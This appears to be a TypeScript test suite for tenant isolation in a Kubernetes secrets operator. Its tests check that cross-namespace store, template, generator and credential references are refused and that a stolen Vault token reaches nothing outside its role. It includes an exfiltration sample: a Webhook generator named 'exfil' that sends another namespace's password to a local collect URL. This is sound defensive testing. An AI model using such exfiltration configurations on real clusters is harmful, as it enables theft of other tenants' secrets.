/**
 * Tenant isolation (seed 004, adversaries 1 and 2). The attacker is admin of namespace team-b and wants
 * team-a's secrets; a second attacker holds a store's Vault credential. Every attempt must end in a clear
 * Ready=False condition, no Secret carrying team-a data anywhere in team-b, and no foreign Secret modified.
 */
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import {
  CLUSTER_SECRET_STORES,
  CONFIGMAPS,
  EXTERNAL_SECRETS,
  generatorResource,
  SECRET_STORES,
  SECRETS,
} from "../../src/kube/index.js";
import { FakeVault } from "../fakes/vault-server.js";
import { eventually } from "../support/poll.js";
import {
  type Cluster,
  createNamespace,
  decoded,
  externalSecret,
  fakeStore,
  startCluster,
  vaultTokenStoreManifest,
} from "../support/world.js";
import { canary, readyOf, runControllers } from "./support.js";

let c: Cluster;
let ctl: Awaited<ReturnType<typeof runControllers>>;
let vault: FakeVault;
const teamA = { password: canary("team-a"), template: canary("team-a-tpl"), store: canary("team-a-store") };
const rootSecret = canary("vault-root");

const secret = (namespace: string, name: string, data: Record<string, string>, labels?: Record<string, string>) => ({
  apiVersion: "v1",
  kind: "Secret",
  metadata: { name, namespace, labels },
  stringData: data,
});

before(async () => {
  c = await startCluster();
  vault = await new FakeVault().start();
  vault
    .addToken("payments-token", { allow: ["secret/data/payments/", "secret/metadata/payments/"] })
    .mountKv("secret", 2)
    .putSecret("secret", "payments/db", { password: "payments-pw" })
    .putSecret("secret", "auth/root", { password: rootSecret });
  await createNamespace(c, "team-a", { tier: "gold" });
  await createNamespace(c, "team-b", { tier: "free" });
  await c.client.create(SECRETS, secret("team-a", "db-creds", { password: teamA.password }));
  await c.client.create(SECRETS, secret("team-a", "vault-token", { token: "payments-token" }));
  await c.client.create(CONFIGMAPS, {
    apiVersion: "v1",
    kind: "ConfigMap",
    metadata: { name: "tmpl", namespace: "team-a" },
    data: { t: `leaked: ${teamA.template}` },
  });
  await c.client.create(SECRET_STORES, fakeStore("fake", "team-a", [{ key: "/k", value: teamA.store }]));
  await c.client.create(SECRET_STORES, fakeStore("own", "team-b", [{ key: "/k", value: "team-b-value" }]));
  await c.client.create(generatorResource("Fake"), {
    apiVersion: "generators.external-secrets.io/v1alpha1",
    kind: "Fake",
    metadata: { name: "gen-a", namespace: "team-a" },
    spec: { data: { generated: teamA.store } },
  });
  ctl = await runControllers(c, { concurrency: 2 });
  await eventually(async () => readyOf(await c.client.get(SECRET_STORES, "team-b", "own"))?.status === "True", {
    timeoutMs: 20_000,
    what: "team-b store Ready",
  });
});

after(async () => {
  await ctl.stop();
  await vault.stop();
  await c.stop();
});

/** Waits for the ExternalSecret to fail with `reason`; its target must not exist. */
async function denied(namespace: string, name: string, reason: RegExp): Promise<string> {
  // Waits for the refusal itself: an earlier False (e.g. "store is not ready" before the store validated) is not it.
  let last = "";
  const cond = await eventually(
    async () => {
      const r = readyOf(await c.client.get(EXTERNAL_SECRETS, namespace, name));
      last = r?.message ?? "";
      return r?.status === "False" && reason.test(last) ? r : undefined;
    },
    { timeoutMs: 20_000, what: `${namespace}/${name} denied with ${reason}` },
  ).catch((err: Error) => {
    throw new Error(`${err.message} (last condition: ${last})`);
  });
  assert.match(cond.message ?? "", reason, `${name}: ${cond.message}`);
  assert.equal(await c.client.get(SECRETS, namespace, name), undefined, `${name}: no Secret written`);
  return cond.message ?? "";
}

/** Nothing of team-a's in any team-b Secret. */
async function assertNoTeamAData(): Promise<void> {
  const all = JSON.stringify((await c.client.list<any>(SECRETS, "team-b")).map(decoded));
  for (const v of [teamA.password, teamA.template, teamA.store, rootSecret]) assert.ok(!all.includes(v), v);
}

describe("tenant isolation: namespace admin (adversary 1)", () => {
  it("a SecretStore cannot be used from another namespace", async () => {
    await c.client.create(
      EXTERNAL_SECRETS,
      externalSecret("steal-store", "team-b", {
        secretStoreRef: { name: "fake", kind: "SecretStore" },
        data: [{ secretKey: "v", remoteRef: { key: "/k" } }],
      }),
    );
    await denied("team-b", "steal-store", /SecretStore "fake" not found in namespace team-b/);
    await assertNoTeamAData();
  });

  it("ClusterSecretStore conditions decide which namespaces may use it", async () => {
    for (const [name, conditions] of [
      ["gold-only", [{ namespaceSelector: { matchLabels: { tier: "gold" } } }]],
      ["a-by-name", [{ namespaces: ["team-a"] }]],
      ["a-by-regex", [{ namespaceRegexes: ["^team-a$"] }]],
    ] as const) {
      await c.client.create(CLUSTER_SECRET_STORES, {
        ...fakeStore(name, undefined, [{ key: "/k", value: teamA.store }]),
        spec: { provider: { fake: { data: [{ key: "/k", value: teamA.store }] } }, conditions },
      });
      for (const ns of ["team-a", "team-b"]) {
        await c.client.create(
          EXTERNAL_SECRETS,
          externalSecret(`use-${name}`, ns, {
            secretStoreRef: { name, kind: "ClusterSecretStore" },
            data: [{ secretKey: "v", remoteRef: { key: "/k" } }],
          }),
        );
      }
      await eventually(async () => decoded(await c.client.get(SECRETS, "team-a", `use-${name}`)).v === teamA.store, {
        timeoutMs: 20_000,
        what: `${name} usable from team-a`,
      });
      await denied("team-b", `use-${name}`, /not allowed from namespace "team-b": denied by spec.conditions/);
    }
    await assertNoTeamAData();
  });

  it("the kubernetes provider cannot borrow another namespace's credentials", async () => {
    const kube = (auth: Record<string, unknown>) => ({
      kubernetes: { server: { url: c.api.url }, remoteNamespace: "team-a", auth },
    });
    const attempts: [string, Record<string, unknown>][] = [
      ["k8s-sa", { serviceAccount: { name: "default", namespace: "team-a" } }],
      ["k8s-token", { token: { bearerToken: { name: "db-creds", key: "password", namespace: "team-a" } } }],
    ];
    for (const [name, auth] of attempts) {
      await c.client.create(SECRET_STORES, {
        apiVersion: "external-secrets.io/v1",
        kind: "SecretStore",
        metadata: { name, namespace: "team-b" },
        spec: { provider: kube(auth) },
      });
      const storeCond = await eventually(async () => {
        const r = readyOf(await c.client.get(SECRET_STORES, "team-b", name));
        return r?.status === "False" ? r : undefined;
      });
      assert.match(storeCond.message ?? "", /namespace: a SecretStore may not reference another namespace/);
      await c.client.create(
        EXTERNAL_SECRETS,
        externalSecret(name, "team-b", {
          secretStoreRef: { name, kind: "SecretStore" },
          data: [{ secretKey: "v", remoteRef: { key: "db-creds", property: "password" } }],
        }),
      );
      await denied("team-b", name, /not ready|may not reference another namespace/);
    }
    await assertNoTeamAData();
  });

  it("templateFrom reads ConfigMaps and Secrets of the ExternalSecret's own namespace only", async () => {
    for (const [name, ref] of [
      ["tpl-cm", { configMap: { name: "tmpl", items: [{ key: "t" }] } }],
      ["tpl-secret", { secret: { name: "db-creds", items: [{ key: "password" }] } }],
    ] as const) {
      await c.client.create(
        EXTERNAL_SECRETS,
        externalSecret(name, "team-b", {
          secretStoreRef: { name: "own", kind: "SecretStore" },
          target: { template: { templateFrom: [ref] } },
          data: [{ secretKey: "v", remoteRef: { key: "/k" } }],
        }),
      );
      await denied("team-b", name, /not found/);
    }
    await assertNoTeamAData();
  });

  it("a generator cannot be referenced, or given credentials, across namespaces", async () => {
    await c.client.create(
      EXTERNAL_SECRETS,
      externalSecret("gen-ref", "team-b", {
        dataFrom: [
          {
            sourceRef: {
              generatorRef: { apiVersion: "generators.external-secrets.io/v1alpha1", kind: "Fake", name: "gen-a" },
            },
          },
        ],
      }),
    );
    await denied("team-b", "gen-ref", /not found in namespace team-b/);
    await c.client.create(generatorResource("Webhook"), {
      apiVersion: "generators.external-secrets.io/v1alpha1",
      kind: "Webhook",
      metadata: { name: "exfil", namespace: "team-b" },
      spec: {
        url: "http://127.0.0.1:9/collect?p={{ .creds.password }}",
        result: { jsonPath: "$" },
        secrets: [{ name: "creds", secretRef: { name: "db-creds", namespace: "team-a" } }],
      },
    });
    await c.client.create(
      EXTERNAL_SECRETS,
      externalSecret("gen-creds", "team-b", {
        dataFrom: [
          {
            sourceRef: {
              generatorRef: { apiVersion: "generators.external-secrets.io/v1alpha1", kind: "Webhook", name: "exfil" },
            },
          },
        ],
      }),
    );
    await denied("team-b", "gen-creds", /may not reference another namespace/);
    await assertNoTeamAData();
  });

  it("an ExternalSecret cannot overwrite a Secret it does not own", async () => {
    await c.client.create(SECRETS, secret("team-b", "app-config", { config: "hand-made" }));
    await c.client.create(
      EXTERNAL_SECRETS,
      externalSecret("hijack", "team-b", {
        secretStoreRef: { name: "own", kind: "SecretStore" },
        target: { name: "app-config", creationPolicy: "Owner" },
        data: [{ secretKey: "config", remoteRef: { key: "/k" } }],
      }),
    );
    const cond = await eventually(async () => {
      const r = readyOf(await c.client.get(EXTERNAL_SECRETS, "team-b", "hijack"));
      return r?.status === "False" ? r : undefined;
    });
    assert.match(cond.message ?? "", /not owned by this ExternalSecret/);
    // Owned by another ExternalSecret: the second one is refused, the first keeps its Secret.
    await c.client.create(
      EXTERNAL_SECRETS,
      externalSecret("first", "team-b", {
        secretStoreRef: { name: "own", kind: "SecretStore" },
        target: { name: "shared" },
        data: [{ secretKey: "v", remoteRef: { key: "/k" } }],
      }),
    );
    await eventually(async () => decoded(await c.client.get(SECRETS, "team-b", "shared")).v === "team-b-value");
    await c.client.create(
      EXTERNAL_SECRETS,
      externalSecret("second", "team-b", {
        secretStoreRef: { name: "own", kind: "SecretStore" },
        target: { name: "shared", creationPolicy: "Owner" },
        data: [{ secretKey: "other", remoteRef: { key: "/k" } }],
      }),
    );
    const second = await eventually(async () => {
      const r = readyOf(await c.client.get(EXTERNAL_SECRETS, "team-b", "second"));
      return r?.status === "False" ? r : undefined;
    });
    assert.match(second.message ?? "", /owned by another ExternalSecret: first/);
    assert.deepEqual(decoded(await c.client.get(SECRETS, "team-b", "app-config")), { config: "hand-made" });
    assert.deepEqual(decoded(await c.client.get(SECRETS, "team-b", "shared")), { v: "team-b-value" });
  });
});

describe("tenant isolation: stolen store credential (adversary 2)", () => {
  it("the store's credential reaches only what its Vault role allows, through the operator or directly", async () => {
    await c.client.create(SECRET_STORES, vaultTokenStoreManifest("team-a", vault.url));
    for (const [name, key] of [
      ["allowed", "payments/db"],
      ["escalate", "auth/root"],
    ]) {
      await c.client.create(
        EXTERNAL_SECRETS,
        externalSecret(name!, "team-a", {
          secretStoreRef: { name: "vault", kind: "SecretStore" },
          data: [{ secretKey: "password", remoteRef: { key: key!, property: "password" } }],
        }),
      );
    }
    await eventually(async () => decoded(await c.client.get(SECRETS, "team-a", "allowed")).password === "payments-pw", {
      timeoutMs: 20_000,
      what: "in-scope read works",
    });
    await denied("team-a", "escalate", /permission denied|403/);
    // Every call the operator made presented the store's own token, nothing broader.
    const tokens = new Set(vault.requests.map((r) => r.headers["x-vault-token"]));
    assert.deepEqual([...tokens], ["payments-token"]);
    // The thief with the token: reads and writes outside the role are refused by the store itself.
    for (const [method, path, body] of [
      ["GET", "/v1/secret/data/auth/root", undefined],
      ["POST", "/v1/secret/data/auth/root", JSON.stringify({ data: { password: "mine" } })],
      ["GET", "/v1/secret/metadata/auth/root", undefined],
    ] as const) {
      const res = await fetch(`${vault.url}${path}`, { method, body, headers: { "X-Vault-Token": "payments-token" } });
      assert.equal(res.status, 403, `${method} ${path}`);
      assert.ok(!(await res.text()).includes(rootSecret));
    }
    assert.equal(vault.getSecretData("secret", "auth/root")?.password, rootSecret, "not overwritten");
    await assertNoTeamAData();
  });
});
